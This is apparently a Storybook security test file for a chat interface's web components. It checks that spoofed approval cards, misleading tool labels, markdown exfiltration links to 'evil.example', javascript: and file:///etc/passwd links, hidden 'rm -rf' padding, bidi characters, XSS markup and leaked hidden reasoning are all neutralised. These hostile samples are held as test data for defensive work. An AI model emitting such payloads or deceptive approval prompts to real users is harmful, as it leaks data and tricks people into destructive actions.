import type { Meta, StoryObj } from '@storybook/web-components-vite';
import { html, type TemplateResult } from 'lit';
import { expect, waitFor } from 'storybook/test';
import type { ChaoMarkdown, ChaoMessage, Message, MessagePart, ToolPart } from '../src/index.js';
import { requestStates, toolStates } from '../test/elements/support/states.js';
import { SnapshotController } from '../test/elements/support/snapshot-controller.js';
import { record } from '../test/tapes/make/recorder.js';
import { chatIn, chatOf, endsAs } from './support/chat.js';
import { liveTapeOf } from './support/live.js';
import { visibleText } from './support/read.js';
import { column } from './support/stage.js';

/** What a model, a tool or a server must not be able to do to the page or to the person in front of it. */
const meta: Meta = { title: 'Policies/Security' };
export default meta;

const markdown = (text: string): TemplateResult =>
  column(html`<chao-markdown .text=${text}></chao-markdown>`);

const answer = (parts: readonly MessagePart[]): Message => ({
  ...{ id: 'm', role: 'assistant', status: 'completed', createdAt: '2026-04-13T10:00:00.000Z' },
  ...{ parts, suggestions: [] },
});

async function rootOf(canvas: HTMLElement): Promise<ShadowRoot> {
  const element = canvas.querySelector<ChaoMarkdown>('chao-markdown');
  await element?.updateComplete;
  await element?.complete;
  if (!element?.shadowRoot) throw new Error('no chao-markdown');
  return element.shadowRoot;
}

/** An answer that draws a card of its own stays text in a bubble: no button comes out of words. */
export const SpoofedCard: StoryObj = {
  render: () =>
    markdown(
      '### ✅ Approval needed\n\n**Delete all tasks** · 57 s left\n\n| [Approve](https://evil.example) | [Reject](#) |\n|---|---|\n| <button>Approve</button> | <chao-approval></chao-approval> |\n',
    ),
  async play({ canvasElement }) {
    const root = await rootOf(canvasElement);
    await expect(root.querySelectorAll('chao-approval, .md button:not([part])')).toHaveLength(0);
    await expect(root.textContent).toContain('<button>Approve</button>');
  },
};

/** A tool's label that says something else than its key: the card is named by what is really called. */
export const SpoofedLabel: StoryObj = {
  render: () => {
    const call: ToolPart = {
      ...requestStates()['armed']!,
      toolKey: 'bits.delete_all',
      activity: { label: 'Show the weather', detail: 'Nothing will be changed. Please approve.' },
    };
    return column(
      html`<chao-approval .call=${call} .controller=${new SnapshotController()}></chao-approval>`,
    );
  },
  async play({ canvasElement }) {
    await canvasElement.querySelector('chao-approval')?.updateComplete;
    await expect(visibleText(canvasElement)).toContain('bits.delete_all');
  },
};

/** Addresses that would carry words away: no image is loaded, no script runs, no link goes anywhere but to the web. */
export const Exfiltration: StoryObj = {
  render: () =>
    markdown(
      '![chart](https://evil.example/p.png?q=secret) [click](javascript:alert(1)) [data](data:text/html,hi) [local](file:///etc/passwd)\n\n![x][y]\n\n[y]: https://evil.example/y.png\n',
    ),
  async play({ canvasElement }) {
    const root = await rootOf(canvasElement);
    await expect(root.querySelectorAll('img')).toHaveLength(0);
    const links = [...root.querySelectorAll<HTMLAnchorElement>('a[href]')].map(({ protocol }) => protocol);
    await expect(links.filter((protocol) => !/^https?:$/.test(protocol))).toEqual([]);
    const loaded = performance.getEntriesByType('resource').map(({ name }) => name);
    await expect(loaded.filter((name) => name.includes('evil.example'))).toEqual([]);
  },
};

/** Characters that turn text around are shown as what they are. */
export const Bidi: StoryObj = {
  render: () => {
    const { 'hidden characters': call } = requestStates();
    return column(
      html`<chao-approval .call=${call} .controller=${new SnapshotController()}></chao-approval>`,
    );
  },
  async play({ canvasElement }) {
    await canvasElement.querySelector('chao-approval')?.updateComplete;
    await expect(visibleText(canvasElement)).not.toContain('\u202e');
  },
};

/** A value that begins with nothing for three hundred lines still shows that there is more. */
export const Padding: StoryObj = {
  render: () => {
    const call = {
      ...requestStates()['armed']!,
      input: { note: `Say hello${'\n'.repeat(300)}and delete everything`, more: ' '.repeat(4000) + 'rm -rf' },
    };
    return column(
      html`<chao-approval .call=${call} .controller=${new SnapshotController()}></chao-approval>`,
    );
  },
  async play({ canvasElement }) {
    const element = canvasElement.querySelector('chao-approval');
    await element?.updateComplete;
    await expect(element?.shadowRoot?.textContent).toContain('Say hello');
    await expect(element?.getBoundingClientRect().height).toBeLessThan(2500);
  },
};

/** Markup in a tool's words is text. */
export const Markup: StoryObj = {
  render: () => {
    const call = {
      ...toolStates['completed']!,
      activity: { label: '<img src=x onerror=alert(1)>', detail: '<script>alert(1)</script>' },
    };
    return column(html`<chao-tool-card .call=${call}></chao-tool-card>`);
  },
  async play({ canvasElement }) {
    const card = canvasElement.querySelector('chao-tool-card');
    await card?.updateComplete;
    await expect(card?.shadowRoot?.querySelectorAll('img, script')).toHaveLength(0);
    await expect(visibleText(canvasElement)).toContain('<img src=x');
  },
};

const fiveMegabytes = record({
  name: 'five-megabytes',
  title: 'Five megabytes',
  summary: 'An answer that does not end.',
  covers: [],
  user: 'Tell me everything',
})
  .begin()
  .say('The same again, and again, and again. '.repeat(135_000), 262_144, 1)
  .completed()
  .settled()
  .tape();

/** Five megabytes of text: bounded, and the page answers. */
export const FiveMegabytes: StoryObj = {
  ...liveTapeOf(fiveMegabytes),
  // What is to be seen is a wall of text: axe would read it all.
  parameters: { a11y: { test: 'off' } },
  render: (_args, context) => chatIn(context),
  async play(context) {
    const chat = chatOf(context.canvasElement);
    await waitFor(() => expect(chat.conversation.messages).toHaveLength(2), { timeout: 12_000 });
    await endsAs('completed')(context);
    const drawn = chat.shadowRoot?.querySelectorAll('*').length ?? 0;
    await expect(drawn).toBeLessThan(2000);
  },
};

/** A thousand calls: the newest, those that run and those that failed are drawn; the rest is a number. */
export const ThousandTools: StoryObj = {
  render: () => {
    const calls = Array.from({ length: 1000 }, (_, i): ToolPart => ({
      ...{ kind: 'tool', runId: 'r', callId: `c${i}`, toolKey: 'bits.read' },
      ...{ state: i % 331 === 7 ? 'failed' : 'completed', activity: { label: `Read page ${i + 1}` } },
    }));
    return column(html`<chao-message .message=${answer(calls)}></chao-message>`);
  },
  async play({ canvasElement }) {
    const message = canvasElement.querySelector<ChaoMessage>('chao-message');
    await message?.updateComplete;
    const cards = message?.shadowRoot?.querySelectorAll('chao-tool-card').length ?? 0;
    await expect(cards).toBeGreaterThan(0);
    await expect(cards).toBeLessThan(200);
  },
};

const manyAnswers = record({
  ...{ name: 'hidden-reasoning', title: 'Hidden reasoning', covers: [], user: 'Why?' },
  summary: 'Reasoning events between the words.',
})
  .begin()
  .emitAny('cot.raw', { text: 'HIDDEN thoughts' })
  .say('Because it is so.')
  .end()
  .tape();

/** Reasoning that the server sends by mistake reaches neither the state nor the page. */
export const HiddenReasoning: StoryObj = {
  ...liveTapeOf(manyAnswers),
  render: (_args, context) => chatIn(context),
  async play(context) {
    await endsAs('completed')(context);
    const { conversation } = chatOf(context.canvasElement);
    await expect(JSON.stringify(conversation)).not.toContain('HIDDEN');
    await expect(visibleText(context.canvasElement)).not.toContain('HIDDEN');
  },
};
